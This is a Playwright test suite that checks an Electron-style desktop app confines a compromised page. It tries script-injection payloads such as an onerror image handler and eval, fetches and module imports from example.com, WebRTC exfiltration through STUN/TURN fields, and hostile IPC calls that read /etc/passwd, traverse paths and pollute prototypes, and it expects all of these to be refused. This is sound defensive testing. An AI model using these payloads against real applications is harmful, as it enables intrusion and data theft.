/**
 * The limits of a compromised page: it cannot run foreign code, reach the key, or navigate the
 * window elsewhere.
 */
import { expect } from "playwright/test";
import { parts, test } from "../support/docket-test.ts";
import { KEY } from "../support/principals.ts";
import { actionJson } from "../support/actions.ts";
import { SHUT } from "../support/chromium.ts";
import { NetworkListener } from "../support/network-listener.ts";

test.describe("the page is confined", () => {
  test("no string becomes a script, and no foreign script or response is loaded", async ({ launch }) => {
    const { page } = await launch();
    const found = await page.evaluate(async () => {
      const violations = new Set<string>();
      // Each event follows its failure, and the event of the request comes last.
      const lastEvent = new Promise<void>((resolve) => {
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
          violations.add(effectiveDirective);
          if (effectiveDirective === "connect-src") resolve();
        });
      });
      // The tool that calls this may evaluate strings; code that runs later is subject to the
      // page's policy.
      await new Promise((resolve) => void setTimeout(resolve));
      const outcomes: Record<string, string> = {};
      const attempt = async (name: string, deed: () => unknown): Promise<void> => {
        try {
          await deed();
          outcomes[name] = "taken";
        } catch (error) {
          outcomes[name] = error instanceof Error ? error.name : String(error);
        }
      };
      const code = "globalThis.hasRun = true";
      const markup = `<img src="x" onerror="${code}">`;
      const foreign = "https://example.com/x.js";
      const inline = `data:text/javascript,${code}`;
      await attempt("handler", () => document.createElement("img").setAttribute("onerror", code));
      await attempt("innerHTML", () => void (document.createElement("div").innerHTML = markup));
      await attempt("insertAdjacentHTML", () => document.body.insertAdjacentHTML("beforeend", markup));
      await attempt("parsed", () => new DOMParser().parseFromString(markup, "text/html"));
      await attempt("frame", () => void (document.createElement("iframe").srcdoc = markup));
      await attempt("scriptText", () => void (document.createElement("script").textContent = code));
      await attempt("scriptAddress", () => void (document.createElement("script").src = foreign));
      // oxlint-disable-next-line no-eval -- the attack
      await attempt("eval", () => (0, eval)(code));
      await attempt("function", () => Reflect.construct(Function, [code]));
      const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } };
      await attempt("policy", () => trustedTypes.createPolicy("own", {}));
      await attempt("foreignModule", () => import(foreign));
      await attempt("inlineModule", () => import(inline));
      await attempt("fetch", () => fetch("https://example.com/"));
      await lastEvent;
      return { outcomes, violations: [...violations].toSorted(), hasRun: "hasRun" in globalThis };
    });
    expect(found).toEqual({
      outcomes: {
        handler: "TypeError",
        innerHTML: "TypeError",
        insertAdjacentHTML: "TypeError",
        parsed: "TypeError",
        frame: "TypeError",
        scriptText: "TypeError",
        scriptAddress: "TypeError",
        eval: "EvalError",
        function: "EvalError",
        policy: "TypeError",
        foreignModule: "TypeError",
        inlineModule: "TypeError",
        fetch: "TypeError",
      },
      violations: ["connect-src", "require-trusted-types-for", "script-src-elem", "trusted-types"],
      hasRun: false,
    });
  });

  test("the key is nowhere in the page or in main's responses", async ({ service, launch }) => {
    await service.tell({ create: actionJson("s-1", "Inspect pump P-104") });
    const { page, main } = await launch();
    await expect(parts(page).row("Inspect pump P-104")).toBeVisible();
    const seen = await page.evaluate(async () => {
      const { docket } = window as unknown as { docket: { invoke: (channel: string, request: unknown) => Promise<unknown> } };
      const requests: [string, unknown][] = [
        ["settings:get", null],
        ["queue:list", null],
        ["queue:details", { actionId: "s-1" }],
        ["connection:get", null],
        ["app:info", null],
      ];
      const answers = await Promise.all(requests.map(([channel, request]) => docket.invoke(channel, request)));
      return JSON.stringify({
        answers,
        html: document.documentElement.outerHTML,
        stored: Object.entries(localStorage),
        cookie: document.cookie,
      });
    });
    expect(seen).toContain("Inspect pump P-104");
    expect(seen).toContain('"hasKey":true');
    expect(seen).not.toContain(KEY);
    expect(main.output()).not.toContain(KEY);
  });

  test("the page has the bridge and nothing else of the desktop, and the bridge accepts its channels only", async ({ launch }) => {
    const { page } = await launch();
    const found = await page.evaluate(async () => {
      const globals = globalThis as Record<string, unknown>;
      const { docket } = globals as unknown as { docket: { invoke: (channel: string, request: unknown) => Promise<unknown> } };
      const refused = async (channel: string, request: unknown): Promise<string> => {
        try {
          return JSON.stringify(await docket.invoke(channel, request));
        } catch (error) {
          return `thrown: ${String(error)}`;
        }
      };
      // A frame that the page creates has a window of its own, without the bridge.
      const framed = ["about:blank", "app://docket/index.html", "javascript:0", "data:text/html,x", "blob:x", ""].map((address) => {
        const frame = document.createElement("iframe");
        if (address !== "") frame.src = address;
        document.body.append(frame);
        const inner = frame.contentWindow as unknown as Record<string, unknown> | null;
        try {
          return ["docket", "require", "process", "ipcRenderer", "electron"].filter((name) => inner?.[name] !== undefined);
        } catch {
          // The frame is of another origin.
          return [];
        } finally {
          frame.remove();
        }
      });
      return {
        framed: framed.flat(),
        leaked: ["require", "process", "module", "Buffer", "ipcRenderer", "electron"].filter((name) => globals[name] !== undefined),
        bridge: Object.keys(docket),
        unknown: await refused("files:read", { path: "/etc/passwd" }),
        malformed: await refused("queue:details", { actionId: 7 }),
      };
    });
    expect(found.leaked).toEqual([]);
    expect(found.framed).toEqual([]);
    expect(found.bridge.toSorted()).toEqual(["invoke", "on"]);
    expect(found.unknown).not.toContain('"ok":true');
    expect(found.malformed).toContain("actionId");
    expect(found.malformed).not.toContain('"ok":true');
  });

  test("a hostile page gains no more access to main by its calls, and main continues to serve", async ({ service, launch }) => {
    await service.tell({ create: actionJson("s-1", "Inspect pump P-104") });
    const { page, main } = await launch();
    await expect(parts(page).row("Inspect pump P-104")).toBeVisible();
    const found = await page.evaluate(async () => {
      type Invoke = (channel: unknown, ...requests: unknown[]) => Promise<unknown>;
      const { docket } = window as unknown as { docket: { invoke: Invoke; on: (...all: unknown[]) => unknown } };
      const outcomes: Record<string, string> = {};
      const attempt = async (name: string, deed: () => unknown): Promise<void> => {
        try {
          const answer = (await deed()) as { ok?: boolean } | undefined;
          outcomes[name] = answer?.ok === true ? "taken" : "refused";
        } catch {
          outcomes[name] = "refused";
        }
      };
      const deep: Record<string, unknown> = {};
      let inner = deep;
      for (let depth = 0; depth < 5_000; depth += 1) inner = inner["actionId"] = {} as Record<string, unknown>;
      const cyclic: Record<string, unknown> = { actionId: "s-1" };
      cyclic["self"] = cyclic;
      const submit = { actionId: "s-1", move: "acknowledge", seenState: "ASSIGNED", pressedAt: 0 };
      await attempt("huge id", () => docket.invoke("queue:details", { actionId: "x".repeat(20_000_000) }));
      await attempt("huge text", () => docket.invoke("drafts:save", { actionId: "s-1", move: "complete", text: "x".repeat(20_000_000) }));
      await attempt("many Actions", () =>
        docket.invoke("updates:acknowledgeAll", { actions: Array.from({ length: 1_000_000 }, () => ({ actionId: "s-1" })), pressedAt: 0 }),
      );
      await attempt("deep", () => docket.invoke("queue:details", deep));
      await attempt("cyclic", () => docket.invoke("queue:details", cyclic));
      await attempt("nothing", () => docket.invoke("queue:details"));
      await attempt("number", () => docket.invoke("queue:details", 7));
      await attempt("list", () => docket.invoke("queue:details", ["s-1"]));
      await attempt("not a number", () => docket.invoke("updates:submit", { ...submit, pressedAt: Number.NaN }));
      await attempt("more fields", () => docket.invoke("updates:submit", { ...submit, admin: true }));
      await attempt("prototype", () => docket.invoke("updates:submit", JSON.parse('{"__proto__":{"actionId":"s-1"},"constructor":{}}')));
      await attempt("path", () => docket.invoke("ledger:export", { format: "csv", path: "/etc/cron.d/docket" }));
      await attempt("format", () => docket.invoke("ledger:export", { format: "../../x" }));
      await attempt("function", () => docket.invoke("queue:details", { actionId: () => "s-1" }));
      for (const channel of ["__proto__", "constructor", "toString", "hasOwnProperty", "ELECTRON_BROWSER_REQUIRE", ["queue:list"], null, 0])
        await attempt(`channel ${JSON.stringify(channel)}`, () => docket.invoke(channel, null));
      await attempt("a listener of a channel that there is not", () => docket.on("__proto__", () => undefined));

      // The bridge returns the same whatever the page does to its own prototypes, and cannot be
      // replaced.
      const own = Object.prototype as unknown as Record<string, unknown>;
      own["ok"] = true;
      await attempt("polluted", async () => ({ ok: Object.hasOwn((await docket.invoke("queue:details", 7)) as object, "value") }));
      delete own["ok"];
      // oxlint-disable-next-line no-extend-native -- the attack
      Array.prototype.includes = () => true;
      Object.hasOwn = () => true;
      await attempt("prototypes of the page", () => docket.invoke("files:read", null));
      await attempt("another bridge", () => {
        (window as unknown as Record<string, unknown>)["docket"] = { invoke: () => ({ ok: true }) };
        return (window as unknown as { docket: { invoke: Invoke } }).docket === docket ? undefined : { ok: true };
      });
      await attempt("another invoke", () => {
        docket.invoke = async () => ({ ok: true });
        return docket.invoke("files:read", null);
      });
      const reached = [(docket.invoke as unknown as { constructor: Function }).constructor, (docket as object).constructor]
        .map((made) => {
          try {
            // oxlint-disable-next-line no-implied-eval -- the attack
            return String((made as FunctionConstructor)("return typeof process + typeof require")());
          } catch {
            return "refused";
          }
        })
        .filter((text) => text.includes("object") && text.includes("function"));
      return { taken: Object.keys(outcomes).filter((name) => outcomes[name] === "taken"), tried: Object.keys(outcomes).length, reached };
    });
    expect(found).toEqual({ taken: [], tried: 27, reached: [] });
    expect(await service.action("s-1")).toMatchObject({ state: "ACTION_STATE_ASSIGNED" });
    // Main has not ended: it serves the next page as before.
    await page.reload();
    await expect(parts(page).row("Inspect pump P-104")).toBeVisible();
    await parts(page).row("Inspect pump P-104").click();
    await parts(page).button("Acknowledge").click();
    await expect(parts(page).update).toHaveText(/^Confirmed/);
    expect(main.output()).not.toContain("defect:");
    // A refusal is one short line in the log, without the megabytes that were refused.
    expect(
      Math.max(
        ...main
          .output()
          .split("\n")
          .map((line) => line.length),
      ),
    ).toBeLessThan(10_000);
  });

  test("the window cannot be navigated elsewhere, opens no other, and sends nothing by WebRTC", async ({ launch }) => {
    const docket = await launch();
    const { page, main } = docket;
    const before = page.url();
    await page.evaluate(() => {
      location.href = "https://example.com/elsewhere";
    });
    await main.waitForLine(/^navigation refused: /);
    await page.evaluate(() => {
      window.open("file:///etc/passwd");
    });
    await main.waitForLine(/^new window refused: /);
    expect(page.url()).toBe(before);
    expect(page.context().pages()).toHaveLength(1);

    // No policy of a document restricts WebRTC: a STUN server's name and a TURN user name can carry
    // any data.
    const listener = await NetworkListener.start();
    const gathered = page.evaluate(async ({ udp, tcp }) => {
      const turn = { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: "the queue", credential: "x" };
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }, turn] });
      connection.createDataChannel("out");
      const isComplete = new Promise<void>((resolve) => {
        connection.addEventListener("icegatheringstatechange", () => {
          if (connection.iceGatheringState === "complete") resolve();
        });
      });
      await connection.setLocalDescription(await connection.createOffer());
      await isComplete;
    }, listener.ports);
    await Promise.race([gathered, listener.reached]);
    expect(listener.heard).toEqual([]);
    listener.close();
    // The stand-in's Chromium gets these as switches, whatever Docket requests.
    const [shown] = (await docket.desktop()).windows;
    if (docket.kind === "stand-in") expect(shown?.network).toEqual(SHUT);
  });
});
